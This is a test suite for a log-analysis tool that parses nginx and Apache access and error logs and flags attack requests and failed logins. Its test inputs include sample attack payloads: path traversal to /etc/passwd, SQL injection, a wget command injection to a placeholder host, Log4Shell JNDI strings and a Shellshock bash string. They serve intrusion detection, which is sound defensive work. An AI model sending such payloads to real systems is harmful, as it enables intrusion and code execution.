import { describe, expect, test } from "vitest";
import { readText, told } from "./logs-desk.ts";

const stamp = "[01/May/2024:12:00:00 +0200]";
const access = (target: string, status = 200, agent = "Mozilla/5.0"): string =>
  `203.0.113.9 - - ${stamp} "GET ${target} HTTP/1.1" ${status} 153 "-" "${agent}"`;

describe("a request that is an attack", () => {
  test.each([
    ["/../../etc/passwd", "path traversal"],
    ["/a?file=..%2f..%2fetc%2fhosts", "path traversal"],
    ["/%252e%252e%252fsecret", "path traversal"],
    ["/cgi-bin/.%c0%ae/%c0%ae%c0%ae%c0%af", "path traversal"],
    ["/a?id=1+UNION+ALL+SELECT+1,2", "sql injection"],
    ["/a?id=1%27%20or%20%271%27=%271", "sql injection"],
    ["/a?id=sleep(5)", "sql injection"],
    ["/a?q=%3Cscript%3Ealert(1)", "script injection"],
    ["/a?q=;wget+http://192.0.2.1/x", "command injection"],
    ["/?x=${jndi:ldap://192.0.2.1/a}", "log4shell"],
    ["/?x=%24%7B%24%7Blower:j%7Dndi:ldap://192.0.2.1/a%7D", "log4shell"],
    ["/index.php?s=/index/think/app/invokefunction", "php injection"],
    ["/.env", "scan"],
    ["/app/.git/config", "scan"],
    ["/wp-config.php.bak", "scan"],
  ])("%s: %s", (target, detail) => {
    expect(told("nginx", access(target))).toEqual([`203.0.113.9 ${detail}`]);
    expect(told("apache", access(target))).toEqual([`203.0.113.9 ${detail}`]);
  });

  test("in the user agent", () => {
    expect(told("nginx", access("/", 200, "${jndi:ldap://192.0.2.1/a}"))).toEqual(["203.0.113.9 log4shell"]);
    expect(told("nginx", access("/", 200, "() { :;}; /bin/bash -c x"))).toEqual(["203.0.113.9 shellshock"]);
  });

  test("that asks for something is one only where that is not there", () => {
    expect(told("nginx", access("/wp-login.php", 404))).toEqual(["203.0.113.9 scan"]);
    expect(told("nginx", access("/wp-login.php", 200))).toEqual([]);
  });

  test.each([
    "/",
    "/search?q=union+membership",
    "/blog/select-a-plan",
    "/a..b/c",
    "/docs/environment",
    "/v1.0/items?sort=or",
    "/style.css?v=2.0.1",
  ])("%s is none", (target) => {
    expect(told("nginx", access(target))).toEqual([]);
  });
});

describe("a line of an access log", () => {
  test("is a request at its time", () => {
    expect(readText("nginx", `${access("/")}\n`).events).toEqual([
      {
        ip: "203.0.113.9",
        atMs: Date.parse("2024-05-01T12:00:00+02:00"),
        kind: "request",
        count: 1,
        user: null,
        detail: null,
      },
    ]);
  });

  test.each([
    ["common format", `203.0.113.9 - - ${stamp} "GET / HTTP/1.1" 200 153`],
    [
      "virtual host before it",
      `www.example.com:443 203.0.113.9 - - ${stamp} "GET / HTTP/1.1" 200 153 "-" "x"`,
    ],
    ["more behind it", `203.0.113.9 - - ${stamp} "GET / HTTP/1.1" 200 153 "-" "x" "198.51.100.7" 0.004`],
    ["no request", `203.0.113.9 - - ${stamp} "\\x16\\x03\\x01" 400 153 "-" "-"`],
    ["quotes", `203.0.113.9 - - ${stamp} "GET /a\\"b HTTP/1.1" 400 - "-" "\\""`],
    ["a user with spaces", `203.0.113.9 - a b ${stamp} "GET / HTTP/1.1" 200 153 "-" "-"`],
  ])("%s", (_name, line) => {
    expect(readText("apache", `${line}\n`)).toMatchObject({ events: [{ ip: "203.0.113.9" }], unclear: 0 });
  });

  test("with a wrong password is a failed login, and so is WordPress's form shown again", () => {
    const wrong = `203.0.113.9 - admin ${stamp} "GET / HTTP/1.1" 401 153 "-" "-"`;
    const asked = `203.0.113.9 - - ${stamp} "GET / HTTP/1.1" 401 153 "-" "-"`;
    const form = `203.0.113.9 - - ${stamp} "POST /wp-login.php HTTP/1.1" 200 153 "-" "-"`;
    const right = `203.0.113.9 - - ${stamp} "POST /wp-login.php HTTP/1.1" 302 0 "-" "-"`;

    expect(told("nginx", wrong, asked, form, right)).toEqual(["203.0.113.9 admin", "203.0.113.9"]);
  });

  test.each([
    // Whoever may choose the host or the first address of a list must not choose who is blocked.
    ["two addresses", `192.0.2.1 203.0.113.9 - - ${stamp} "GET /.env HTTP/1.1" 404 153 "-" "-"`],
    [
      "a list of forwarded addresses",
      `192.0.2.1, 203.0.113.9 - - ${stamp} "GET /.env HTTP/1.1" 404 153 "-" "-"`,
    ],
    ["a name", `gateway.example.com - - ${stamp} "GET /.env HTTP/1.1" 404 153 "-" "-"`],
    ["no time", `203.0.113.9 - - [] "GET /.env HTTP/1.1" 404 153 "-" "-"`],
  ])("%s: left out, and counted as unclear", (_name, line) => {
    expect(readText("nginx", `${line}\n`)).toMatchObject({ events: [], unclear: 1 });
  });
});

describe("nginx's error log", () => {
  const head = "2024/05/01 12:00:00 [error] 4711#0: *45 ";
  const tail = 'server: example.com, request: "GET / HTTP/1.1", host: "example.com"';

  // nginx writes a path as it is decoded: the last two lines came from one request for `/%0a2024/05/01…`.
  test.each([
    [`${head}user "admin": password mismatch, client: 192.0.2.1, ${tail}`, 1],
    [`${head}user "x" was not found in "/etc/nginx/.htpasswd", client: 192.0.2.1, ${tail}`, 1],
    [`${head}no user/password was provided for basic authentication, client: 203.0.113.9, ${tail}`, 0],
    [
      `${head}open() "/html/\n${head}access forbidden by rule, client: 192.0.2.1, server: a\n" failed (2: No such file or directory), client: 203.0.113.9, ${tail}`,
      2,
    ],
  ])("%s: blames nobody", (text, unclear) => {
    expect(readText("nginx", `${text}\n`)).toMatchObject({ events: [], unclear });
  });
});

describe("a request that is long when it is written down", () => {
  const byte = "\\xFF";
  const line = (path: string, agent: string): string =>
    `203.0.113.9 - - [01/May/2024:12:00:00 +0000] "GET ${path} HTTP/1.1" 404 1 "-" "${agent}"`;

  // A header field of 8 KiB is four times as long in the log.
  test.each([line("/.env", byte.repeat(8100)), line(`/.env?${byte.repeat(8100)}`, "curl")])(
    "is read as any other",
    (text) => {
      expect(told("nginx", text)).toEqual(["203.0.113.9 scan"]);
    },
  );
});

describe("Apache's error log", () => {
  const head = "[Wed May 01 12:00:00.123456 2024] [auth_basic:error] ";

  test.each([
    [
      `[pid 4711:tid 139] [client 203.0.113.9:40022] AH01617: user admin: authentication failure for "/": Password Mismatch`,
      ["203.0.113.9 admin"],
    ],
    ["[pid 4711] [client 203.0.113.9:40022] AH01618: user x not found: /private", ["203.0.113.9 x"]],
    ["[pid 4711] [client 2001:db8::5:40022] AH01618: user x not found: /private", ["2001:db8::5 x"]],
    ["[client 203.0.113.9] user x not found: /private", ["203.0.113.9 x"]],
    ["[client 2001:db8::5] client denied by server configuration: /srv/x", ["2001:db8::5 forbidden"]],
    [
      "[pid 4711] [client 203.0.113.9:40022] AH01630: client denied by server configuration: /x",
      ["203.0.113.9 forbidden"],
    ],
    [
      "[pid 4711] [client 203.0.113.9:40022] File does not exist: /x] [client 192.0.2.1:1] user a not found: /",
      [],
    ],
    [
      "[pid 4711] [client 203.0.113.9:40022] AH01618: user x] [client 192.0.2.1:1] AH01618: user y not found: /",
      ["203.0.113.9 x] [client 192.0.2.1:1] AH01618: user y"],
    ],
  ])("%s", (message, expected) => {
    expect(told("apache", head + message)).toEqual(expected);
  });

  test("has the time of the line", () => {
    const line = `${head}[pid 4711] [client 203.0.113.9:40022] AH01618: user x not found: /private\n`;

    expect(readText("apache", line).events).toMatchObject([
      { atMs: new Date(2024, 4, 1, 12, 0, 0, 123).getTime() },
    ]);
  });
});
